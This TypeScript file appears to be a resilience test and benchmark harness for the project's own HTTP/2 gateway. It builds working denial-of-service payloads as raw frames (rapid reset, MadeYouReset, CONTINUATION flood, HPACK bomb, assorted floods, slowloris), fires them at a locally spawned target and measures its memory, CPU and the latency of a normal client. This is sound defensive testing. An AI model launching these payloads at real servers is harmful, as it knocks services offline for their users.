/**
 * What is done to gateways by those who mean them harm, as bytes on sockets; how much comes of it; and a client that
 * behaves beside them. For the test and for bench/gateway/attack.ts. Imports node, and frames from the wire's tests.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { readFileSync } from 'node:fs';
import * as net from 'node:net';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import {
  block,
  join as bytes,
  END_HEADERS,
  frame,
  hello,
  latin1,
  PREFACE,
  request,
  requestFrame,
  resetFrame,
  settings,
  uint32,
  windowUpdate,
} from '../wire/http2/frame.ts';

export interface Attack {
  readonly name: string;
  readonly connections: number;
  /** What each connection begins with. */
  readonly first: Uint8Array;
  /** What it goes on with, as fast as it is taken; `id` is of streams that are new each time, 200 a turn. Absent: nothing. */
  readonly again?: (id: number, turn: number) => Uint8Array;
  /** Between two of these. Default: none. */
  readonly pauseMs?: number;
  /** False: the attacker never reads. Default true. */
  readonly reads?: boolean;
  /** Its connections are closed by the gateway at once, or only later, by a limit of time (or seen to be, by who does not read). */
  readonly end: 'closed' | 'kept';
}

/** As many frames, or groups of them, as go in one turn. */
function many(one: (id: number) => Uint8Array): (id: number) => Uint8Array {
  return (id) => bytes(...Array.from({ length: 200 }, (_, index) => one(id + 2 * index)));
}

/** The beginning of a frame of 12,000 bytes. */
function slowFrame(type: 'SETTINGS' | 'CONTINUATION', id: number): Uint8Array {
  return frame(type, 0, id, new Uint8Array(12_000)).subarray(0, 9);
}

const post = (id: number): Uint8Array => requestFrame(id, END_HEADERS, request('POST', '/sink'));
const large = (id: number): Uint8Array => requestFrame(id, 5, request('GET', '/large'));
const hundredLarge = bytes(...Array.from({ length: 100 }, (_, index) => large(2 * index + 1)));
const ping = frame('PING', 0, 0, new Uint8Array(8));
const bombBlock = bytes(block(request()), [0x40, 1, 0x78, 127, 0xa1, 0x1e], latin1('y'.repeat(4000)));
const bombRest = new Uint8Array(16_000).fill(0x80 | 62);

/** Sources: CVE-2023-44487, CVE-2025-8671, VU#421644, CVE-2016-6581, CVE-2019-9511 to -9518, and slowloris. */
export const attacks: readonly Attack[] = [
  {
    name: 'rapid reset',
    connections: 4,
    first: hello(),
    again: many((id) => bytes(requestFrame(id), resetFrame(id, 8))),
    end: 'closed',
  },
  {
    name: 'MadeYouReset',
    connections: 4,
    first: hello(),
    again: many((id) => bytes(requestFrame(id), windowUpdate(id, 0))),
    end: 'closed',
  },
  {
    name: 'CONTINUATION flood',
    connections: 4,
    first: hello(requestFrame(1, 0)),
    again: many(() => frame('CONTINUATION', 0, 1, latin1('\0\x01x\x01y'))),
    end: 'closed',
  },
  {
    name: 'HPACK bomb',
    connections: 4,
    first: hello(),
    again: (id) =>
      bytes(
        frame('HEADERS', 1, id, bombBlock),
        frame('CONTINUATION', 0, id, bombRest),
        frame('CONTINUATION', 0, id, bombRest),
        frame('CONTINUATION', 4, id, bombRest),
      ),
    pauseMs: 5,
    end: 'closed',
  },
  { name: 'PING flood', connections: 4, first: hello(), again: many(() => ping), end: 'closed' },
  {
    name: 'PING flood, answers unread',
    connections: 4,
    first: hello(),
    again: many(() => ping),
    reads: false,
    end: 'kept',
  },
  {
    name: 'SETTINGS flood',
    connections: 4,
    first: hello(),
    again: many(() => settings([4, 65_535])),
    end: 'closed',
  },
  {
    name: 'empty DATA flood',
    connections: 4,
    first: hello(post(1)),
    again: many(() => frame('DATA', 0, 1)),
    end: 'closed',
  },
  {
    name: 'PRIORITY flood',
    connections: 4,
    first: hello(),
    again: many((id) => frame('PRIORITY', 0, id, [...uint32(0), 1])),
    end: 'closed',
  },
  {
    name: 'window opened by the byte',
    connections: 4,
    first: hello(settings([4, 0]), large(1)),
    again: many(() => windowUpdate(1, 1)),
    end: 'closed',
  },
  {
    name: 'DATA by the byte',
    connections: 4,
    first: hello(post(1)),
    again: many(() => frame('DATA', 0, 1, [1])),
    pauseMs: 1,
    end: 'kept',
  },
  { name: 'window of nothing', connections: 20, first: hello(settings([4, 0]), hundredLarge), end: 'kept' },
  {
    name: 'large windows, nothing read',
    connections: 20,
    first: hello(settings([4, 0x7fff_ffff]), windowUpdate(0, 0x7fff_0000 - 65_535), hundredLarge),
    reads: false,
    end: 'kept',
  },
  {
    name: 'requests over HTTP/2, answers unread',
    connections: 4,
    first: hello(),
    again: many((id) => requestFrame(id)),
    reads: false,
    end: 'kept',
  },
  {
    name: 'requests over HTTP/1.1, answers unread',
    connections: 4,
    first: latin1(''),
    again: () => latin1('GET / HTTP/1.1\r\nhost: page\r\n\r\n'.repeat(50)),
    reads: false,
    end: 'kept',
  },
  {
    name: 'slowloris',
    connections: 200,
    first: latin1('GET / HTTP/1.1\r\nhost: page\r\n'),
    again: (_, turn) => latin1(`x-${turn}: y\r\n`),
    pauseMs: 100,
    end: 'kept',
  },
  {
    name: 'slowloris over HTTP/2',
    connections: 200,
    first: bytes(PREFACE, slowFrame('SETTINGS', 0)),
    again: () => Uint8Array.of(0),
    pauseMs: 100,
    end: 'kept',
  },
  {
    name: 'header block by the byte',
    connections: 200,
    first: bytes(hello(requestFrame(1, 0)), slowFrame('CONTINUATION', 1)),
    again: () => Uint8Array.of(0),
    pauseMs: 100,
    end: 'kept',
  },
];

/** What came of an attack. */
export interface AttackOutcome {
  connections: number;
  /** Ended by the gateway. */
  closed: number;
  sentBytes: number;
}

/** Attacks until `until`; who is thrown out comes again. */
export async function attack(
  port: number,
  { connections, ...how }: Attack,
  until: AbortSignal,
  outcome: AttackOutcome = { connections: 0, closed: 0, sentBytes: 0 },
): Promise<AttackOutcome> {
  const one = async (): Promise<void> => {
    while (!until.aborted) {
      await attackOnce(port, how, until, outcome);
      await sleep(5);
    }
  };
  await Promise.all(Array.from({ length: connections }, one));
  return outcome;
}

async function attackOnce(
  port: number,
  { first, again, pauseMs = 0, reads = true }: Omit<Attack, 'connections'>,
  until: AbortSignal,
  outcome: AttackOutcome,
): Promise<void> {
  const socket = net.connect(port, '127.0.0.1');
  outcome.connections++;
  let isGone = false;
  let wake = (): void => {};
  const gone = new Promise<void>((done) => {
    socket.on('close', () => {
      isGone = true;
      if (!until.aborted) outcome.closed++;
      wake();
      done();
    });
  });
  socket.on('error', () => {});
  socket.on('drain', () => wake());
  if (reads) socket.resume();
  const stop = (): void => void socket.destroy();
  until.addEventListener('abort', stop, { once: true });
  const send = async (piece: Uint8Array): Promise<void> => {
    outcome.sentBytes += piece.length;
    if (socket.write(piece) || isGone) return;
    await new Promise<void>((done) => {
      wake = done;
    });
  };
  await send(first);
  for (let turn = 0; again && !isGone && !until.aborted; turn++) {
    await send(again(1001 + 400 * turn, turn));
    await (pauseMs > 0 ? sleep(pauseMs) : new Promise((done) => setImmediate(done)));
  }
  await gone;
  until.removeEventListener('abort', stop);
}

/** A gateway in a process of its own. */
export interface Target {
  readonly port: number;
  readonly isAlive: boolean;
  /** Resident memory in MiB; undefined where there is no /proc. */
  memoryMib(): number | undefined;
  /** Milliseconds of CPU so far; undefined where there is no /proc. */
  cpuMs(): number | undefined;
  stop(): Promise<void>;
}

/** Starts it with a runtime's command; `limits` as `listen` takes them. */
export async function startTarget(command: readonly string[], limits: object = {}): Promise<Target> {
  const [program = '', ...args] = [
    ...command,
    join(import.meta.dirname, 'attack-target.ts'),
    JSON.stringify(limits),
  ];
  const child: ChildProcess = spawn(program, args, { stdio: ['ignore', 'pipe', 'inherit'] });
  const closed = new Promise<void>((done) => child.on('close', () => done()));
  const port = await new Promise<number>((done, fail) => {
    child.stdout!.once('data', (text) => done(Number(text)));
    child.once('close', () => fail(new Error(`${program} has ended`)));
  });
  const read = (file: string): string | undefined => {
    try {
      return readFileSync(`/proc/${child.pid}/${file}`, 'utf8');
    } catch {
      return undefined;
    }
  };
  return {
    port,
    get isAlive() {
      return child.exitCode === null && child.signalCode === null;
    },
    memoryMib() {
      const kib = /VmRSS:\s+(\d+)/.exec(read('status') ?? '')?.[1];
      return kib === undefined ? undefined : Number(kib) / 1024;
    },
    cpuMs() {
      // utime and stime, in hundredths of a second, behind the name in brackets.
      const fields = read('stat')?.split(') ')[1]?.split(' ');
      return fields && (Number(fields[11]) + Number(fields[12])) * 10;
    },
    async stop() {
      child.kill('SIGKILL');
      await closed;
    },
  };
}

/** A client that behaves: one request after another, its times in milliseconds. */
export async function behave(port: number, until: AbortSignal): Promise<number[]> {
  const socket = net.connect({ port, host: '127.0.0.1', noDelay: true });
  const times: number[] = [];
  let failure: Error | undefined;
  let told = (): void => {};
  let text = '';
  socket.on('error', (error) => {
    failure = error;
    told();
  });
  socket.on('close', () => {
    failure ??= new Error('The connection was closed');
    told();
  });
  socket.setEncoding('latin1').on('data', (piece) => {
    text += piece;
    if (text.endsWith('small')) told();
  });
  while (!until.aborted) {
    const begun = performance.now();
    const answered = new Promise<void>((done) => {
      told = done;
    });
    text = '';
    socket.write('GET / HTTP/1.1\r\nhost: page\r\n\r\n');
    await answered;
    if (failure) throw failure;
    times.push(performance.now() - begun);
    await sleep(2);
  }
  socket.destroy();
  return times;
}
